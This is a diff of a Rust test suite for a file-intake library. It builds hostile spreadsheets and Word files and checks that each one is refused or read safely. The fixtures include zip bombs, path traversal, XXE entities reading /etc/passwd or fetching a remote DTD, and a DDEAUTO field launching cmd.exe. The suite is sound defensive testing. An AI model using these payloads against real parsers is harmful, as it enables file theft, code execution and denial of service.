@@ -1,17 +1,23 @@
 //! Files that lie, burst or are something else: `hostile.tsv` says the one line that each must
-//! give, or how many cells are read where the lie is harmless.
+//! give, or what is read where the lie is harmless. Its first column is the threat's number in the
+//! list of threats: from bombs (A1) and entities (A2, A3) to forbidden characters (A15). Encodings
+//! (A17), misread figures (A18) and names that disguise (A16) have suites of their own.
 
+use std::collections::BTreeSet;
 use std::fs;
 use std::time::{Duration, Instant};
 
-use tongket_intake::read_here;
+use tongket_intake::{RawFile, read_here};
 
 use crate::foreign;
-use crate::package::{Parts, sheet, workbook, zipped};
+use crate::package::{Parts, document, sheet, workbook, zipped};
+use crate::samples::sample;
 
 const CELL: &str = r#"<row r="1"><c r="A1"><v>1</v></c></row>"#;
 const SHEET: &str = "xl/worksheets/sheet1.xml";
 const STRINGS: &str = "xl/sharedStrings.xml";
+/// Of a part that bursts, in bytes.
+const LONG_PART: u32 = 150 << 20;
 
 #[test]
 fn every_hostile_file_gives_its_line() {
@@ -19,27 +25,40 @@ fn every_hostile_file_gives_its_line() {
     let path = folder.path().join("tep.xlsx");
     let mut failures = Vec::new();
     let mut n_cases = 0;
+    let mut threats = BTreeSet::new();
     for line in include_str!("hostile.tsv").lines().skip(1) {
-        let (case, expected) = line.split_once('\t').unwrap();
+        let fields: Vec<&str> = line.split('\t').collect();
+        let [threat, case, expected] = fields.as_slice() else { panic!("too few: {line}") };
         n_cases += 1;
+        threats.insert(threat[1..].parse::<u32>().unwrap());
         fs::write(&path, bytes_of(case)).unwrap();
         let start = Instant::now();
         let found = match read_here(&path) {
-            Ok(file) => {
-                let n_cells: usize = file.sheets.iter().map(|sheet| sheet.cells.len()).sum();
-                format!("đọc được {n_cells} ô")
-            }
+            Ok(file) => read_of(&file),
             Err(error) => error.to_string(),
         };
-        if found != expected {
+        if found != *expected {
             failures.push(format!("{case}: expected {expected:?}, got {found:?}"));
         }
         if start.elapsed() > Duration::from_secs(10) {
             failures.push(format!("{case}: took {:?}", start.elapsed()));
         }
     }
-    assert!(n_cases >= 30, "the cases were not read");
+    assert!(n_cases >= 60, "the cases were not read");
+    assert!(threats.into_iter().eq(1..=15), "a threat has no file");
     assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// Cells, and paragraphs and notices where there are any.
+fn read_of(file: &RawFile) -> String {
+    let n_cells: usize = file.sheets.iter().map(|sheet| sheet.cells.len()).sum();
+    let mut read = format!("đọc được {n_cells} ô");
+    for (n, what) in [(file.paragraphs.len(), "đoạn"), (file.notices.len(), "lưu ý")] {
+        if n > 0 {
+            read.push_str(&format!(", {n} {what}"));
+        }
+    }
+    read
 }
 
 fn bytes_of(case: &str) -> Vec<u8> {
@@ -85,8 +104,84 @@ fn bytes_of(case: &str) -> Vec<u8> {
             let rels = "<!DOCTYPE r [<!ENTITY a 'b'>]>".to_owned() + &text_of(parts, "_rels/.rels");
             parts.insert("_rels/.rels".to_owned(), rels.into_bytes());
         }),
-        _ => with_part(case),
+        "zip trong zip" => zipped(&Parts::from([("bieu.xlsx".to_owned(), zipped(&plain()))])),
+        "tên leo ra ngoài" => changed(|parts| {
+            parts.insert("../../tong-ket-thu.txt".to_owned(), b"x".to_vec());
+        }),
+        "hai phần khác hoa thường" => changed(|parts| {
+            parts.insert("xl/Worksheets/Sheet1.xml".to_owned(), b"<worksheet/>".to_vec());
+        }),
+        "bảng tính có macro" => changed(|parts| {
+            parts.insert("xl/vbaProject.bin".to_owned(), b"\xD0\xCF\x11\xE0".to_vec());
+        }),
+        "bảng tính liên kết ra ngoài" => changed(|parts| {
+            let name = "xl/_rels/workbook.xml.rels";
+            let link = r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="http://10.0.0.1/a.xlsx" TargetMode="External"/></Relationships>"#;
+            let rels = text_of(parts, name).replace("</Relationships>", link);
+            parts.insert(name.to_owned(), rels.into_bytes());
+        }),
+        "RTF" => br"{\rtf1 Thu}".to_vec(),
+        "trang web" => "<html><table><tr><td>1</td></tr></table></html>".into(),
+        "bom khai 100 byte" => {
+            let mut bytes = bytes_of("bom nén");
+            // The unpacked size in the central directory, and in the local header where it is.
+            let (size, told) = (LONG_PART.to_le_bytes(), 100u32.to_le_bytes());
+            for at in 0..bytes.len() - 4 {
+                if bytes[at..at + 4] == size {
+                    bytes[at..at + 4].copy_from_slice(&told);
+                }
+            }
+            bytes
+        }
+        "xls cắt trước mục lục" => half(fs::read(sample("bieu-ktxh.xls")).unwrap()),
+        "xls chép được 600 byte" => {
+            let mut bytes = fs::read(sample("phieu-diem.xls")).unwrap();
+            bytes.truncate(600);
+            bytes
+        }
+        "ods cắt cụt" => half(fs::read(sample("phieu-diem.ods")).unwrap()),
+        "docx cắt cụt" => half(fs::read(sample("bao-cao.docx")).unwrap()),
+        "ký tự cấm trong csv" => b"TT;N\x01i dung;2022\r\n1;\x02;5\r\n".to_vec(),
+        _ => document_of(case).unwrap_or_else(|| with_part(case)),
     }
+}
+
+fn half(mut bytes: Vec<u8>) -> Vec<u8> {
+    bytes.truncate(bytes.len() / 2);
+    bytes
+}
+
+/// The cases that are documents.
+fn document_of(case: &str) -> Option<Vec<u8>> {
+    let text = |text: &str| format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>");
+    let body = |text: &str| document(text, &[]);
+    let parts = match case {
+        "bom nén trong Word" => {
+            let mut parts = body("");
+            let long = format!("<w:document>{}</w:document>", " ".repeat(150 << 20));
+            parts.insert("word/document.xml".to_owned(), long.into_bytes());
+            parts
+        }
+        "DTD trong văn bản" => {
+            let mut parts = body(&text("a"));
+            let doctype = "<!DOCTYPE d [<!ENTITY a 'b'>]>".to_owned();
+            let long = doctype + &text_of(&parts, "word/document.xml");
+            parts.insert("word/document.xml".to_owned(), long.into_bytes());
+            parts
+        }
+        "văn bản có mẫu ở máy khác" => document(
+            &text("a"),
+            &[(
+                "relations",
+                r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file://10.0.0.1/mau.dotm" TargetMode="External"/>"#,
+            )],
+        ),
+        "trường DDEAUTO" => body(
+            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\cmd.exe "/k calc"</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>12</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>"#,
+        ),
+        _ => return None,
+    };
+    Some(zipped(&parts))
 }
 
 /// The cases that change one part of a workbook.
@@ -97,7 +192,25 @@ fn with_part(case: &str) -> Vec<u8> {
             r#"<!DOCTYPE sst [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><sst><si><t>&b;</t></si></sst>"#
                 .to_owned(),
         ),
-        "bom nén" => (STRINGS, format!("<sst>{}</sst>", " ".repeat(150 << 20))),
+        "bom nén" => {
+            let blanks = usize::try_from(LONG_PART).unwrap() - "<sst></sst>".len();
+            (STRINGS, format!("<sst>{}</sst>", " ".repeat(blanks)))
+        }
+        "DTD trong trang tính" => {
+            (SHEET, format!("<!DOCTYPE w [<!ENTITY a 'b'>]>{}", sheet(CELL)))
+        }
+        "thực thể ngoài" => (
+            SHEET,
+            format!(r#"<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>{}"#, sheet(CELL)),
+        ),
+        "thực thể tham số ngoài" => (
+            STRINGS,
+            r#"<!DOCTYPE s [<!ENTITY % a SYSTEM "http://10.0.0.1/a.dtd"> %a;]><sst/>"#.to_owned(),
+        ),
+        "ký tự cấm trong _x0001_" => (
+            SHEET,
+            sheet(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>a_x0001_b</t></is></c></row>"#),
+        ),
         "lồng 100.000 lớp" => (SHEET, "<a>".repeat(100_000) + &"</a>".repeat(100_000)),
         "100.000 thuộc tính" => {
             let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"\"")).collect();
